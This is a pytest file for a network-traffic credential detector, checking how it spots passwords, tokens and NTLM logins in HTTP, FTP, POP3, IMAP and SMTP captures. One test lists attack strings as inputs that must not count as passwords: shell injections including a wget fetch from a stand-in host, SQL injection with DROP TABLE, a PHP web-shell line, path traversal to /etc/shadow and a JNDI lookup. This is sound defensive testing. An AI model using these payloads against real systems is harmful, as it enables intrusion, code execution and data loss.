"""Credential precision: a password is judged by its shape, tokens are their own kind, NTLM only from Type 3;
and traffic as it really arrives (mid-session flows, untyped bodies, bytes after Content-Length)."""

from __future__ import annotations

import base64
import json

import pytest
from cred_packets import CLIENT, SERVER, T0, scan
from names_packets import ntlm_authenticate, ntlm_challenge, ntlm_negotiate

from detector.observations import Credential
from detector.policy.settings import Settings
from detector.protocols.base import Endpoints
from detector.protocols.http import HttpSession
from detector.samples import tcp_session, write_pcap
from detector.textscan import not_a_password, scan_text

FIELDS = tuple(Settings().password_field_names)
OK = b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"


def http_credentials(*requests: bytes, responses: int = 0) -> list[Credential]:
    out: list = []
    session = HttpSession(Endpoints(CLIENT, SERVER, 50000, 80, "tcp"), out.append, FIELDS)
    for request in requests:
        session.feed(True, request, T0, "test:frame 1")
    for _ in range(responses):
        session.feed(False, OK, T0, "test:frame 2")
    session.close(T0, "test:end")
    return [o for o in out if isinstance(o, Credential)]


def form(body: str, content_type: str = "application/x-www-form-urlencoded", extra: bytes = b"") -> bytes:
    data = body.encode()
    head = f"POST /login HTTP/1.1\r\nHost: app.example\r\nContent-Length: {len(data)}\r\n"
    if content_type:
        head += f"Content-Type: {content_type}\r\n"
    return head.encode() + b"\r\n" + data + extra


# ---------------------------------------------------------------- shape


@pytest.mark.parametrize("value", [
    ";cat /etc/passwd", "| id", "`whoami`", "$(wget http://x/s.sh)", "' OR 1=1--", "admin' or '1'='1",
    "1 UNION SELECT username, password FROM users", "<?php system($_GET['c']); ?>", "<script>alert(1)</script>",
    "../../../../etc/shadow", "${jndi:ldap://evil/a}", "1; DROP TABLE users", "http://evil.example/x",
    "https://intranet/login", "www.example.com/login",
])
def test_injection_strings_and_urls_are_not_passwords(value):
    assert not_a_password(value)
    assert http_credentials(form("user=admin&password=" + value.replace("&", "%26").replace("+", "%2B"))) == []


@pytest.mark.parametrize("value", ["P@ss;w0rd!", "Summer2024", "/dev/rdsk/c0t0d0s0", "my--pass", "O'Brien#1",
                                   "select-me-7", "a|b|c|d|e"])
def test_real_passwords_with_odd_characters_still_count(value):
    creds = http_credentials(form("user=admin&password=" + value.replace("|", "%7C")))
    assert [(c.kind, c.username, c.secret.length) for c in creds] == [("cleartext", "admin", len(value))]


def test_message_text_with_an_injection_string_is_not_a_shared_password():
    assert scan_text("password: ;cat /etc/passwd") == []
    assert scan_text("the password is Xy7!tQ2p") != []


def test_query_string_attack_is_not_a_password():
    request = b"GET /index.php?user=x&pass=%3Bcat%20%2Fetc%2Fpasswd HTTP/1.1\r\nHost: web\r\n\r\n"
    assert http_credentials(request) == []


# ---------------------------------------------------------------- tokens


def test_bearer_token_is_a_token_without_a_user():
    request = b"GET /api/me HTTP/1.1\r\nHost: api.example\r\nAuthorization: Bearer eyJhbGciOiJIUzI1NiJ9.e30.sig\r\n\r\n"
    creds = http_credentials(request, responses=1)
    assert [(c.protocol, c.kind, c.username, c.accepted) for c in creds] == [("http-bearer", "token", "", True)]


def test_oauth_access_token_in_query_and_api_key_header():
    request = (b"GET /feed?access_token=ya29.a0AfH6SMBx7Q9kL2mN4pR8sT1vW3yZ HTTP/1.1\r\nHost: graph.example\r\n"
               b"X-API-Key: 3f9a8b7c6d5e4f3a2b1c\r\n\r\n")
    creds = {(c.protocol, c.kind, c.username) for c in http_credentials(request)}
    assert creds == {("http-query-token", "token", ""), ("http-api-key", "token", "")}


def test_push_notification_token_is_no_credential():
    """A push registration only lets its holder be sent notifications: nothing a third party could log in with."""
    body = json.dumps({"name": "Phone", "token": "APA91bHun4MxP5egoKMwt2KZFBaFUH-1RYqx9",
                       "platform": "android", "push_id": "c2a1f0e9d8b7a6c5", "registration_id": "APA91bXyz0123456789"})
    assert http_credentials(form(body, "application/json")) == []


def test_password_field_holding_a_jwt_is_a_token():
    creds = http_credentials(form("user=anna&password=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"))
    assert [(c.kind, c.username) for c in creds] == [("token", "")]


def test_token_findings_have_their_own_title_and_severity(tmp_path):
    request = b"GET /api HTTP/1.1\r\nHost: api.example\r\nAuthorization: Bearer abcdefghijklmnop123456\r\n\r\n"
    packets = tcp_session(CLIENT, SERVER, 41000, 80, [(True, request), (False, OK)], T0)
    findings, _, _ = scan(write_pcap(tmp_path / "bearer.pcap", packets))
    tokens = [f for f in findings if f.detector == "credentials.cleartext"]
    assert len(tokens) == 1
    assert tokens[0].attributes.kind == "token" and tokens[0].attributes.username == ""
    assert "token" in tokens[0].title.lower() and "password" not in tokens[0].title.lower()
    assert not [f for f in findings if f.detector == "credentials.reuse"]


# ---------------------------------------------------------------- NTLM


def ntlm_request(message: bytes, scheme: str = "NTLM") -> bytes:
    return (f"GET /intranet HTTP/1.1\r\nHost: web\r\nAuthorization: {scheme} "
            f"{base64.b64encode(message).decode()}\r\n\r\n").encode()


def test_ntlm_type1_and_type2_yield_nothing_type3_yields_user_domain_workstation():
    assert http_credentials(ntlm_request(ntlm_negotiate())) == []
    assert http_credentials(ntlm_request(ntlm_challenge())) == []
    creds = http_credentials(ntlm_request(ntlm_authenticate("anna", "CORP", "LAPTOP-ANNA")), responses=1)
    assert [(c.protocol, c.kind, c.username, c.domain, c.workstation, c.accepted) for c in creds] == [
        ("http-ntlm", "hash", "anna", "CORP", "LAPTOP-ANNA", True)]


def test_negotiate_wrapping_ntlm_type3_and_kerberos_negotiate():
    spnego = b"\xa1\x82\x01\x00\x30\x81\xfd\xa2\x81\xfa\x04\x81\xf7" + ntlm_authenticate("bob", "CORP", "PC-BOB")
    creds = http_credentials(ntlm_request(spnego, "Negotiate"))
    assert [(c.username, c.domain, c.workstation) for c in creds] == [("bob", "CORP", "PC-BOB")]
    assert http_credentials(ntlm_request(b"\x60\x82\x05\x00\x06\x06\x2b\x06\x01\x05\x05\x02", "Negotiate")) == []


# ---------------------------------------------------------------- bodies as they arrive


def test_form_body_without_content_type_is_parsed():
    creds = http_credentials(form("username=anna&password=Winter2025!", content_type=""))
    assert [(c.protocol, c.username) for c in creds] == [("http-form", "anna")]


def test_json_body_without_content_type_is_parsed():
    creds = http_credentials(form('{"login": {"email": "anna@corp.example", "password": "Winter2025!"}}', ""))
    assert [(c.protocol, c.username) for c in creds] == [("http-json", "anna@corp.example")]


def test_untyped_body_that_is_not_a_form_is_ignored():
    assert http_credentials(form("this is some text with password=nothing in it", content_type="")) == []


def test_bytes_trailing_content_length_belong_to_the_body():
    request = form("username=anna", extra=b"&password=Winter2025!\r\n")
    creds = http_credentials(request)
    assert [(c.protocol, c.username, c.secret.length) for c in creds] == [("http-form", "anna", 11)]


def test_trailing_bytes_stop_at_the_next_request():
    second = b"GET /next?password=Autumn2025x HTTP/1.1\r\nHost: app.example\r\n\r\n"
    creds = http_credentials(form("username=anna&password=Winter2025!", extra=b"\r\n" + second))
    assert sorted((c.protocol, c.secret.length) for c in creds) == [("http-form", 11), ("http-query", 11)]


# ---------------------------------------------------------------- flows picked up mid-session

PLAIN = b"AUTH PLAIN " + base64.b64encode(b"\x00bob\x00Secr3t!pw") + b"\r\n"
MID_SESSION = {
    "ftp reply first": (21, [(False, b"331 Password required for bob\r\n"), (True, b"PASS Secr3t!pw\r\n"),
                             (False, b"230 Logged in\r\n")], ("ftp", "bob", True)),
    "ftp PASS first": (21, [(True, b"PASS Secr3t!pw\r\n"), (False, b"230 Logged in\r\n")], ("ftp", "", True)),
    "pop3 PASS first": (110, [(True, b"PASS Secr3t!pw\r\n"), (False, b"+OK logged in\r\n")], ("pop3", "", True)),
    "imap tagged reply first": (143, [(False, b"a1 OK CAPABILITY completed\r\n"),
                                      (True, b"a2 LOGIN bob Secr3t!pw\r\n"), (False, b"a2 OK done\r\n")],
                                ("imap", "bob", True)),
    "smtp reply first": (25, [(False, b"250 OK\r\n"), (True, PLAIN), (False, b"235 ok\r\n")], ("smtp", "bob", True)),
    "smtp AUTH first": (587, [(True, PLAIN), (False, b"235 ok\r\n")], ("smtp", "bob", True)),
    "http inside a body": (80, [(True, b"...end of an upload\r\n\r\nPOST /login HTTP/1.1\r\nHost: x\r\n"
                                       b"Content-Length: 28\r\n\r\nuser=bob&password=Secr3t!pw1"),
                                (False, OK)], ("http-form", "bob", None)),
    "http response first": (80, [(False, OK), (True, b"POST /login HTTP/1.1\r\nHost: x\r\nContent-Length: 28\r\n"
                                                     b"\r\nuser=bob&password=Secr3t!pw1")], ("http-form", "bob", None)),
}


@pytest.mark.parametrize("case", sorted(MID_SESSION))
def test_flow_without_syn_or_greeting_still_decodes(case, tmp_path):
    port, exchange, expected = MID_SESSION[case]
    packets = tcp_session(CLIENT, SERVER, 40000, port, exchange, T0, handshake=False)
    findings, _, _ = scan(write_pcap(tmp_path / "mid.pcap", packets))
    logins = [(f.attributes.protocol, f.attributes.username, f.attributes.accepted)
              for f in findings if f.detector == "credentials.cleartext"]
    assert logins == [expected]


def test_tls_on_an_http_port_is_not_taken_for_http(tmp_path):
    hello = b"\x16\x03\x01\x00\x30\x01\x00\x00\x2c\x03\x03" + b"\x00" * 40
    packets = tcp_session(CLIENT, SERVER, 40001, 8080, [(True, hello + b"password=Secr3t!pw")], T0)
    findings, _, _ = scan(write_pcap(tmp_path / "tls8080.pcap", packets))
    assert not [f for f in findings if f.detector == "credentials.cleartext"]
